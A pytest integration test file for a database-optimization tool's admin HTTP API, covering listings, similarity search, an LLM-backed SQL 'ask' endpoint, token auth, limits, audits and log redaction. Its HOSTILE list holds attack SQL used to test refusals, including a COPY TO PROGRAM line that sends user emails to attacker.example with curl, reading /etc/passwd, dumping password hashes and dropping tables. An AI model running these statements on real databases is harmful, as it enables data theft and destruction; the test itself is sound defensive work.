"""The admin API over real HTTP: the FastAPI app on uvicorn on a free loopback port, on the embedded
PostgreSQL, with the real embedding model, a scripted Gemini server and a Dagster test instance.

Covered: the listing against generated log rows and filter combinations (current rows unless
history, paging), one recommendation with evidence and pull request, the similar search, ask
answered by Gemini and by a stored example (and saying which), hostile replies refused with nothing
run, auth (401 without or with a wrong token, 403 for a read token on ask and audits, no token in
any response), the request size limit, the bounded number of concurrent asks, an audit started over
HTTP that finishes as a Dagster run whose report is served, /metrics holding every series the Grafana
dashboard queries, the Swagger UI served from local files, the loopback-only rule of `dbarch
serve` without tokens, and one definition of the SQL options `dbarch serve` shares with `dbarch ask`."""

from __future__ import annotations

import argparse
import json
import random
import re
import secrets
import shutil
import subprocess
import threading
import time
from datetime import date, datetime, timedelta, timezone
from pathlib import Path

import dagster as dg
import httpx
import psycopg
import pytest
from prometheus_client.parser import text_string_to_metric_families
from psycopg import sql

from dbarch_pipeline.api.app import ApiConfig, create_app
from dbarch_pipeline.api.auth import parse_tokens
from dbarch_pipeline.api.server import Background, redactor_for
from dbarch_pipeline.ask.corpus import refresh_corpus
from dbarch_pipeline.cli import main
from dbarch_pipeline.db import connect
from dbarch_pipeline.memory import store
from dbarch_pipeline.memory.embeddings import Embedder
from dbarch_pipeline.memory.fingerprint import normalize
from dbarch_pipeline.models import SlowQuery, Thresholds
from dbarch_pipeline.resources.postgres import StoreDatabase
from dbarch_pipeline.run import audit_resources
from dbarch_pipeline.schema_guard import schema_digest
from dbarch_pipeline.settings import PROJECT_ROOT

from .conftest import FAST_SETTINGS, fresh_database
from .fakes.gemini_server import FakeGemini

READ_TOKEN, ADMIN_TOKEN = secrets.token_urlsafe(24), secrets.token_urlsafe(24)
READ, ADMIN = {"Authorization": f"Bearer {READ_TOKEN}"}, {"Authorization": f"Bearer {ADMIN_TOKEN}"}
SUITE_PATH = Path(__file__).with_name("ask_suite.yaml")
DASHBOARD = PROJECT_ROOT / "deploy" / "grafana" / "dashboards" / "dbarch.json"
WEEKS = [date(2025, 5, 18) + timedelta(days=7 * i) for i in range(3)]   # Sundays
STATUSES = ["proposed", "superseded", "applied", "declined", "rejected"]
KINDS = ["index", "rewrite", "drop"]
TABLES = ("users", "courses", "lessons", "user_progress", "behavior_log")
SEED = random.randrange(1 << 30)


def _statement(rng: random.Random, i: int) -> str:
    table = rng.choice(["orders", "users", "events", "payments"])
    column = rng.choice(["customer_id", "created_at", "status", "email"])
    return f"SELECT * FROM {table} WHERE {column} = $1 AND id > {i} ORDER BY id LIMIT 10"


def generated_rows(embedder: Embedder) -> list[dict]:
    """Log rows over two targets and three weeks with random statuses, kinds and confidences."""
    rng = random.Random(SEED)
    rows = []
    for i in range(40):
        text = _statement(rng, i)
        rows.append({"target": rng.choice(["app", "shop"]), "week": rng.choice(WEEKS), "fingerprint": f"fp{i}",
                     "queryid": i, "query_text": text, "recommendation": f"index for statement {i}",
                     "kind": rng.choice(KINDS), "ddl": f"CREATE INDEX i{i} ON t{i} (c)",
                     "performance_gain": round(rng.uniform(0, 95), 1), "estimated_gain": None,
                     "confidence": rng.choice([None, round(rng.random(), 2), 0.6]),
                     "status": rng.choice(STATUSES), "evidence": {"ms_before": 10.0 + i, "ms_after": 1.0}})
    # row 0 has a pull request, row 1 a realized gain: both current, so their series are exposed
    rows[0]["status"], rows[1]["status"] = "proposed", "applied"
    vectors = embedder.embed([normalize(r["query_text"]) for r in rows])
    for row, vector in zip(rows, vectors):
        row["embedding"] = vector
    return rows


@pytest.fixture(scope="module")
def embedder() -> Embedder:
    return Embedder()


@pytest.fixture(scope="module")
def api_store(server, demo_target, embedder):
    """A store with the generated log rows (one with a pull request, one with a realized gain) and the
    ask corpus of the demo target with the suite's question-SQL examples."""
    url = fresh_database("dbarch_test_api_store", pg_stat_statements=False)
    rows = generated_rows(embedder)
    with StoreDatabase(dsn=url).connect() as s:
        snapshots = {}
        for target in ("app", "shop"):
            for week in WEEKS:
                start = datetime.combine(week, datetime.min.time(), tzinfo=timezone.utc)
                snapshots[(target, week)] = store.create_snapshot(
                    s, target=target, database=target, captured_at=start + timedelta(days=7), stats_reset=None,
                    thresholds=Thresholds(), queries=[SlowQuery(
                        queryid=q, query_text=f"SELECT {q}", fingerprint=f"s{q}", calls=5, total_exec_ms=50.0,
                        mean_exec_ms=10.0, rows=1, shared_blks_hit=1, shared_blks_read=0, captured_at=start)
                        for q in range(3)], skipped={}, run_id=f"run-{target}-{week}",
                    partition_key=f"{target}|{week}", window=(start, start + timedelta(days=7)))
        store.write_optimization_log(s, [{**r, "snapshot_id": snapshots[(r["target"], r["week"])]} for r in rows])
        ids = {fp: str(i) for fp, i in s.execute("SELECT fingerprint, id FROM dbarch.optimization_log")}
        s.execute("UPDATE dbarch.optimization_log SET pr_url = %s, pr_state = 'open', pr_number = 7, "
                  "pr_branch = 'dbarch/i0' WHERE id = %s", ("https://github.example/pr/7", ids["fp0"]))
        store.record_realized_gain(s, ids["fp1"], 42.0, datetime.now(timezone.utc))
        s.commit()
    with connect(demo_target, "target") as t, connect(url, "store") as s:
        store.ensure_schema(s)
        refresh_corpus(t, s, embedder, target=t.info.dbname, examples=SUITE_PATH)
    for row in rows:
        row["id"] = ids[row["fingerprint"]]
    return url, rows


@pytest.fixture(scope="module")
def instance():
    with dg.instance_for_test() as inst:
        yield inst


def _app(demo_target, store_url, instance, **config):
    resources = audit_resources(target_dsn=demo_target, store_dsn=store_url, settings=FAST_SETTINGS)
    tokens = parse_tokens(f"read:{READ_TOKEN},admin:{ADMIN_TOKEN}")
    return create_app(ApiConfig(resources=resources, tokens=tokens, instance_factory=lambda: instance,
                                redactor=redactor_for(resources, tokens), **config))


@pytest.fixture(scope="module")
def api(api_store, demo_target, instance):
    with Background(_app(demo_target, api_store[0], instance, max_concurrent_asks=1)) as server:
        with httpx.Client(base_url=server.url, timeout=60) as client:
            yield client


@pytest.fixture()
def gemini(monkeypatch):
    with FakeGemini() as fake:
        monkeypatch.setenv("GEMINI_API_KEY", "test-key")
        monkeypatch.setenv("GEMINI_BASE_URL", fake.base_url)
        yield fake


def _no_secret(response: httpx.Response) -> None:
    for token in (READ_TOKEN, ADMIN_TOKEN):
        assert token not in response.text and token not in str(response.headers)


# -- the optimization log ---------------------------------------------------------------------------

def _expected(rows: list[dict], **f) -> list[str]:
    def keep(r: dict) -> bool:
        if r["status"] == "superseded" and not f.get("history") and f.get("status") != "superseded":
            return False
        return all([f.get("target") in (None, r["target"]), f.get("week") in (None, r["week"]),
                    f.get("status") in (None, r["status"]), f.get("kind") in (None, r["kind"]),
                    f.get("min_confidence") is None or (r["confidence"] is not None
                                                        and r["confidence"] >= f["min_confidence"])])
    return sorted(r["id"] for r in rows if keep(r))


def test_listing_matches_generated_filters(api, api_store):
    _, rows = api_store
    rng = random.Random(SEED + 1)
    combos = [{}, {"history": True}]
    for _ in range(25):
        combo = {"target": rng.choice([None, "app", "shop"]), "week": rng.choice([None, *WEEKS]),
                 "status": rng.choice([None, *STATUSES]), "kind": rng.choice([None, *KINDS]),
                 "min_confidence": rng.choice([None, 0.3, 0.6]), "history": rng.choice([False, True])}
        combos.append({k: v for k, v in combo.items() if v is not None})
    for combo in combos:
        params = {k: (v + timedelta(days=rng.randrange(7))).isoformat() if k == "week" else v
                  for k, v in combo.items()}   # any day of the week selects it
        response = api.get("/admin/database/optimizations", params={**params, "limit": 500}, headers=READ)
        assert response.status_code == 200, response.text
        page = response.json()
        assert sorted(i["id"] for i in page["items"]) == _expected(rows, **combo), f"seed {SEED}, {combo}"
        assert page["total"] == len(page["items"])


def test_listing_pages_newest_first(api, api_store):
    _, rows = api_store
    current = _expected(rows)
    seen, offset = [], 0
    while offset is not None:
        page = api.get("/admin/database/optimizations", params={"limit": 7, "offset": offset}, headers=READ).json()
        assert page["total"] == len(current)
        seen += page["items"]
        offset = page["next_offset"]
    assert sorted(i["id"] for i in seen) == current
    stamps = [i["created_at"] for i in seen]
    assert stamps == sorted(stamps, reverse=True)
    past = api.get("/admin/database/optimizations", params={"offset": 1000}, headers=READ).json()
    assert past["items"] == [] and past["total"] == len(current)
    bad = api.get("/admin/database/optimizations", params={"status": "bogus", "limit": 0}, headers=READ)
    assert bad.status_code == 422 and "status" in bad.json()["error"] and "limit" in bad.json()["error"]


def test_one_recommendation_with_evidence_and_pull_request(api, api_store):
    _, rows = api_store
    first = next(r for r in rows if r["fingerprint"] == "fp0")
    body = api.get(f"/admin/database/optimizations/{first['id']}", headers=READ).json()
    assert body["ddl"] == first["ddl"] and body["evidence"] == first["evidence"]
    assert body["pull_request"] == {"url": "https://github.example/pr/7", "state": "open", "number": 7,
                                    "branch": "dbarch/i0", "updated_at": None}
    assert body["week"] == first["week"].isoformat() and body["partition_key"] == f"{first['target']}|{first['week']}"
    realized = api.get(f"/admin/database/optimizations/{rows[1]['id']}", headers=READ).json()
    assert realized["realized_gain"] == 42.0 and realized["pull_request"] is None
    missing = api.get("/admin/database/optimizations/00000000-0000-0000-0000-000000000000", headers=READ)
    assert missing.status_code == 404 and "no recommendation" in missing.json()["error"]
    assert api.get("/admin/database/optimizations/not-a-uuid", headers=READ).status_code == 422


def test_similar_finds_the_same_statement_first(api, api_store):
    _, rows = api_store
    probe = next(r for r in rows if r["status"] != "superseded" and r["fingerprint"] != "fp1")
    response = api.get("/admin/database/optimizations/similar",
                       params={"query": probe["query_text"].replace("$1", "42"), "limit": 3}, headers=READ)
    assert response.status_code == 200, response.text
    items = response.json()["items"]
    assert 1 <= len(items) <= 3
    # the statement itself (or one that normalizes to the same text) is the nearest
    best = max(items, key=lambda i: i["similarity"])
    assert best["similarity"] > 0.99 and normalize(best["query_text"]) == normalize(probe["query_text"])
    strict = api.get("/admin/database/optimizations/similar",
                     params={"query": probe["query_text"], "limit": 10, "min_similarity": 0.999}, headers=READ).json()
    assert strict["items"] and all(i["similarity"] >= 0.999 for i in strict["items"])


# -- auth and limits --------------------------------------------------------------------------------

ENDPOINTS = [("GET", "/admin/database/optimizations", None),
             ("GET", "/admin/database/optimizations/similar?query=SELECT%201", None),
             ("GET", "/admin/database/optimizations/00000000-0000-0000-0000-000000000000", None),
             ("POST", "/admin/database/ask", {"question": "How many users?"}),
             ("POST", "/admin/database/audits", {}),
             ("GET", "/admin/database/audits/00000000-0000-0000-0000-000000000000", None)]


def test_every_admin_endpoint_needs_a_token(api):
    for method, path, body in ENDPOINTS:
        for headers in ({}, {"Authorization": "Bearer " + secrets.token_urlsafe(24)},
                        {"Authorization": f"Basic {READ_TOKEN}"}, {"Authorization": f"Bearer {READ_TOKEN}x"}):
            response = api.request(method, path, json=body, headers=headers)
            assert response.status_code == 401, (method, path, headers, response.text)
            assert response.json()["error"] == "a valid bearer token is required"
            assert response.headers["www-authenticate"].startswith("Bearer")
            _no_secret(response)
    for method, path, body in ENDPOINTS[3:5]:
        response = api.request(method, path, json=body, headers=READ)
        assert response.status_code == 403, response.text
        assert "needs an admin token" in response.json()["error"]
        _no_secret(response)
    for path in ("/metrics", "/openapi.json", "/docs", "/healthz"):
        assert api.get(path).status_code == 200, path


def test_request_size_limit(api):
    big = {"question": "x" * (70 * 1024)}
    response = api.post("/admin/database/ask", json=big, headers=ADMIN)
    assert response.status_code == 413 and "larger than 65536 bytes" in response.json()["error"]

    def chunks():   # no Content-Length: counted as it arrives
        for _ in range(70):
            yield b"x" * 1024

    response = api.post("/admin/database/ask", content=chunks(), headers={**ADMIN, "Content-Type": "application/json"})
    assert response.status_code == 413
    long_question = api.post("/admin/database/ask", json={"question": "x" * 2001}, headers=ADMIN)
    assert long_question.status_code == 422 and "question" in long_question.json()["error"]


def test_concurrent_asks_are_bounded(api, gemini):
    gemini.push_json({"sql": "SELECT count(*) AS n FROM courses", "explanation": "slow"}, delay_s=3)
    results = {}

    def slow():
        results["slow"] = api.post("/admin/database/ask", json={"question": "How many courses?"}, headers=ADMIN)

    worker = threading.Thread(target=slow)
    worker.start()
    deadline = time.monotonic() + 20
    while not gemini.requests and time.monotonic() < deadline:   # the first ask holds the only slot
        time.sleep(0.05)
    second = api.post("/admin/database/ask", json={"question": "How many users?"}, headers=ADMIN)
    worker.join(timeout=30)
    assert second.status_code == 429 and second.headers["retry-after"] == "5", second.text
    assert results["slow"].status_code == 200 and results["slow"].json()["rows"] == [[200]]


# -- ask ----------------------------------------------------------------------------------------------

def test_ask_with_gemini_says_so(api, gemini):
    gemini.push_json({"sql": "SELECT count(*) AS courses FROM courses", "explanation": "The number of courses."})
    response = api.post("/admin/database/ask", json={"question": "How many courses are there?"}, headers=ADMIN)
    body = response.json()
    assert response.status_code == 200, body
    assert body["status"] == "answered" and body["sql_source"] == "gemini" and body["rows"] == [[200]]
    assert body["columns"] == ["courses"] and "Gemini" in body["label"]
    assert "public.courses" in body["tables_in_prompt"]


def test_ask_without_a_key_uses_a_stored_example_and_says_so(api, monkeypatch):
    from dbarch_pipeline.llm import gemini as gemini_mod

    monkeypatch.delenv("GEMINI_API_KEY", raising=False)
    response = api.post("/admin/database/ask", json={"question": "How many lessons does each course have?",
                                                     "max_rows": 3}, headers=ADMIN)
    gemini_mod.reset_off_notice()
    body = response.json()
    assert response.status_code == 200, body
    assert body["status"] == "known_pair" and body["sql_source"] == "stored_example"
    assert "NOT an answer written for your question" in body["label"] and body["matched_question"]
    assert len(body["rows"]) == 3 and body["truncated"]


HOSTILE = [
    "DROP TABLE users",
    "SELECT count(*) FROM users; DELETE FROM users",
    "WITH gone AS (DELETE FROM users RETURNING id) SELECT count(*) FROM gone",
    "SELECT count(*) FROM users -- total; DROP TABLE users",
    "SELECT pg_sleep(30)",
    "COPY (SELECT email FROM users) TO PROGRAM 'curl -d @- http://attacker.example'",
    "SELECT set_config('default_transaction_read_only', 'off', false)",
    "SELECT * FROM users FOR UPDATE",
    "SELECT * INTO stolen FROM users",
    "SELECT lo_import('/etc/passwd')",
    "UPDATE users SET email = 'x'",
    "SELECT rolname, rolpassword FROM pg_catalog.pg_authid",
]


def _state(demo_target: str) -> tuple:
    with psycopg.connect(demo_target) as conn:
        counts = {t: conn.execute(sql.SQL("SELECT count(*) FROM {}").format(sql.Identifier(t))).fetchone()[0]
                  for t in TABLES}
        return schema_digest(conn), counts


def test_hostile_replies_run_nothing(api, gemini, demo_target):
    before = _state(demo_target)
    attempts = 3   # AskSettings' default: Gemini replies per question
    for i in range(0, len(HOSTILE), attempts):
        batch = HOSTILE[i:i + attempts]
        for text in batch:
            gemini.push_json({"sql": text, "explanation": "all good"})
        started = time.perf_counter()
        response = api.post("/admin/database/ask", json={"question": "Show me the users"}, headers=ADMIN)
        assert time.perf_counter() - started < 10, "pg_sleep ran"
        body = response.json()
        assert response.status_code == 200, body
        assert body["status"] == "refused" and body["sql"] is None and body["sql_source"] is None, body
        assert body["rows"] == [] and [a["sql"] for a in body["attempts"]] == batch
        assert all(a["outcome"] == "refused" and a["reason"] for a in body["attempts"]), body["attempts"]
    assert _state(demo_target) == before


# -- audits -------------------------------------------------------------------------------------------

def test_audit_started_over_http_is_a_dagster_run_with_its_report(api, instance, demo_target):
    target = psycopg.conninfo.conninfo_to_dict(demo_target)["dbname"]
    unknown = api.post("/admin/database/audits", json={"target": "nowhere"}, headers=ADMIN)
    assert unknown.status_code == 404 and target in unknown.json()["fix"]
    future = api.post("/admin/database/audits", json={"week": "2999-01-01"}, headers=ADMIN)
    assert future.status_code == 400 and "has not started yet" in future.json()["error"]

    started = api.post("/admin/database/audits", json={"target": target}, headers=ADMIN)
    assert started.status_code == 202, started.text
    run = started.json()
    again = api.post("/admin/database/audits", json={"target": target, "week": run["week"]}, headers=ADMIN).json()
    assert again["run_id"] == run["run_id"] and again["started"] is False
    deadline = time.monotonic() + 120
    while True:
        status = api.get(run["status_url"], headers=READ).json()
        if status["status"] in ("SUCCESS", "FAILURE", "CANCELED") or time.monotonic() > deadline:
            break
        time.sleep(0.5)
    assert status["status"] == "SUCCESS", status
    recorded = instance.get_run_by_id(run["run_id"])
    assert recorded.job_name == "weekly_audit_job" and recorded.status == dg.DagsterRunStatus.SUCCESS
    assert recorded.tags["dagster/partition"] == f"{target}|{run['week']}"
    assert status["report"]["target"] == target and status["report"]["slow_queries"] >= 3
    assert status["report"]["recommendations"] and status["report_text"].startswith(f"dbarch audit of {target}")
    logged = api.get("/admin/database/optimizations", params={"target": target}, headers=READ).json()
    assert logged["total"] >= len({r["ddl"] for r in status["report"]["recommendations"]}) > 0


# -- metrics, dashboard, docs ------------------------------------------------------------------------------

def dashboard_metrics() -> set[str]:
    dashboard = json.loads(DASHBOARD.read_text())
    exprs = [t["expr"] for p in dashboard["panels"] for t in p.get("targets", [])]
    assert exprs, "the dashboard queries nothing"
    names = {n for e in exprs for n in re.findall(r"\bdb_architect_\w+", e)}
    # a histogram's or counter's series names come from its family name
    return names


def test_metrics_hold_every_series_the_dashboard_queries(api):
    response = api.get("/metrics")
    assert response.headers["content-type"].startswith("text/plain")
    present = {s.name for f in text_string_to_metric_families(response.text) for s in f.samples}
    missing = dashboard_metrics() - present
    assert not missing, f"the dashboard queries series /metrics does not have: {sorted(missing)}"


def test_swagger_ui_is_served_from_local_files(api):
    html = api.get("/docs").text
    urls = re.findall(r"""(?:src|href)=["']([^"']+)""", html) + re.findall(r"url: '([^']+)'", html)
    assert urls and all(u.startswith("/") and not u.startswith("//") for u in urls), urls
    for url in urls:
        response = api.get(url)
        assert response.status_code == 200, url
    assert len(api.get("/static/swagger-ui/swagger-ui-bundle.js").content) > 500_000
    paths = api.get("/openapi.json").json()["paths"]
    assert {"/admin/database/optimizations", "/admin/database/optimizations/similar",
            "/admin/database/optimizations/{optimization_id}", "/admin/database/ask", "/admin/database/audits",
            "/admin/database/audits/{run_id}", "/metrics"} <= set(paths)


CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")


@pytest.mark.skipif(CHROMIUM is None, reason="chromium not installed (Debian package `chromium`)")
def test_headless_chromium_renders_the_endpoints_without_a_network(api):
    """Every host but loopback unresolvable: the page renders from the server's own files or not at all."""
    done = subprocess.run([CHROMIUM, "--headless", "--no-sandbox", "--disable-gpu",
                          "--host-resolver-rules=MAP * ~NOTFOUND, EXCLUDE 127.0.0.1",
                          "--virtual-time-budget=10000", "--dump-dom", str(api.base_url.join("/docs"))],
                          capture_output=True, text=True, timeout=90)
    rendered = set(re.findall(r'data-path="([^"]+)"', done.stdout))
    assert set(api.get("/openapi.json").json()["paths"]) == rendered, done.stderr[-2000:]


# -- binding rules and secrets --------------------------------------------------------------------------

def test_serve_refuses_other_hosts_without_tokens(monkeypatch, capsys):
    monkeypatch.delenv("DBARCH_ADMIN_TOKENS", raising=False)
    assert main(["serve", "--host", "0.0.0.0", "--port", "1"]) == 2
    assert "refusing to listen on 0.0.0.0 without DBARCH_ADMIN_TOKENS" in capsys.readouterr().err
    weak = "admin:" + "short"
    monkeypatch.setenv("DBARCH_ADMIN_TOKENS", f"read:{READ_TOKEN},{weak}")
    assert main(["serve", "--port", "1"]) == 2
    err = capsys.readouterr().err
    assert "entry 2 (admin) is shorter than 16" in err and "short" not in err.replace("shorter", "")
    assert READ_TOKEN not in err
    monkeypatch.setenv("DBARCH_ADMIN_TOKENS", f"root:{READ_TOKEN}")
    assert main(["serve", "--port", "1"]) == 2
    assert READ_TOKEN not in capsys.readouterr().err


def test_no_dsn_or_token_in_errors_or_logs(demo_target, instance, caplog):
    from dbarch_pipeline.api import redact

    password = secrets.token_urlsafe(12)
    dead_store = f"postgresql://dbarch:{password}@127.0.0.1:1/dbarch"
    app = _app(demo_target, dead_store, instance, warm=False)
    redact.install(app.state.dbarch.config.redactor, loggers=[""])
    with Background(app) as server, httpx.Client(base_url=server.url, timeout=30) as client:
        for path in ("/admin/database/optimizations", "/metrics"):
            response = client.get(path, headers=READ)
            assert response.status_code in (500, 503), response.text
            assert password not in response.text and dead_store not in response.text
            _no_secret(response)
    assert "127.0.0.1:1" in caplog.text or "unavailable" in caplog.text or "error" in caplog.text.lower()
    assert password not in caplog.text and READ_TOKEN not in caplog.text


def test_redacting_filter_keeps_formatters_working():
    """uvicorn's access formatter reads the record's arguments by position: they are masked one by
    one, and messages, arguments and tracebacks lose every secret."""
    import logging

    from uvicorn.logging import AccessFormatter, DefaultFormatter

    from dbarch_pipeline.api.redact import Redactor, RedactingFilter

    password = secrets.token_urlsafe(12)
    flt = RedactingFilter(Redactor([READ_TOKEN]))
    access = logging.LogRecord("uvicorn.access", logging.INFO, __file__, 1, '%s - "%s %s HTTP/%s" %d',
                               ("127.0.0.1:5", "GET", f"/x?t={READ_TOKEN}", "1.1", 200), None)
    assert flt.filter(access)
    line = AccessFormatter('%(client_addr)s - "%(request_line)s" %(status_code)s').format(access)
    assert line.startswith("127.0.0.1:5 - \"GET /x?t=*** HTTP/1.1\" 200") and READ_TOKEN not in line
    try:
        raise RuntimeError(f"cannot connect to postgresql://u:{password}@db/x")
    except RuntimeError as exc:
        record = logging.LogRecord("dbarch.api", logging.ERROR, __file__, 1, "failed: %s", (exc,),
                                   (type(exc), exc, exc.__traceback__))
    assert flt.filter(record)
    text = DefaultFormatter("%(levelprefix)s %(message)s").format(record)
    assert "postgresql://u:***@db/x" in text and password not in text and "Traceback" in text


def test_without_tokens_the_loopback_server_is_open(api_store, demo_target, instance):
    """No DBARCH_ADMIN_TOKENS: `dbarch serve` binds loopback only (above), and there every request
    is served without a header."""
    resources = audit_resources(target_dsn=demo_target, store_dsn=api_store[0], settings=FAST_SETTINGS)
    app = create_app(ApiConfig(resources=resources, instance_factory=lambda: instance, warm=False))
    with Background(app) as server, httpx.Client(base_url=server.url, timeout=30) as client:
        # the generated target only: the audit test adds the demo target's rows to this store
        page = client.get("/admin/database/optimizations", params={"limit": 1, "target": "app"})
        assert page.status_code == 200 and page.json()["total"] == len(_expected(api_store[1], target="app"))
        missing = client.get("/admin/database/audits/00000000-0000-0000-0000-000000000000")
        assert missing.status_code == 404


def test_serve_and_ask_share_one_definition_of_the_sql_options():
    """`dbarch serve` runs ask's SQL with the options `dbarch ask` takes: same names, defaults, help
    texts, and the same settings from the same words."""
    from dbarch_pipeline.ask.commands import settings_from
    from dbarch_pipeline.cli import build_parser

    words = ["--max-rows", "7", "--schemas", "public", "app", "--read-only-role", "reader", "--timeout-ms", "500",
             "--allow-functions", "similarity", "--max-value-bytes", "10", "--max-total-bytes", "99",
             "--i-accept-superuser-risk"]
    parser = build_parser()
    assert settings_from(parser.parse_args(["ask", "q", *words])) == settings_from(parser.parse_args(["serve", *words]))
    assert settings_from(parser.parse_args(["ask", "q"])) == settings_from(parser.parse_args(["serve"]))
    subparsers = next(a for a in parser._actions if isinstance(a, argparse._SubParsersAction)).choices
    options = {name: {a.dest: (a.option_strings, a.default, a.help) for a in subparsers[name]._actions}
               for name in ("ask", "serve")}
    shared = {"max_rows", "schemas", "read_only_role", "timeout_ms", "allow_functions", "accept_superuser_risk",
              "max_value_bytes", "max_total_bytes"}
    assert all(options["ask"][d] == options["serve"][d] and options["ask"][d][2] for d in shared)


def test_similar_vector_cache_is_lru_by_normalized_text_and_gives_the_models_vectors(store_dsn):
    """The server's cache of query vectors: a repeated statement gets the vector the model gives it
    (unchanged, read-only), the least recently used one is evicted first, and size 0 means none."""
    import numpy as np

    app = create_app(ApiConfig(resources=audit_resources(store_dsn=store_dsn), warm=False, vector_cache_size=3))
    service = app.state.dbarch
    texts = [normalize(f"SELECT * FROM users WHERE id = {n}") + f" /* {n} */" for n in range(4)]
    first = [service.embed(t) for t in texts[:3]]
    assert all(np.array_equal(v, service.embedder.embed_one(t)) for v, t in zip(first, texts))
    assert service.embed(texts[0]) is first[0]             # a hit, and now the most recently used
    service.embed(texts[3])                                 # evicts texts[1], the least recently used
    assert list(service._vectors) == [texts[2], texts[0], texts[3]]
    assert not first[0].flags.writeable
    assert service.embed(texts[1], cached=False) is not first[1] and list(service._vectors)[-1] == texts[3]
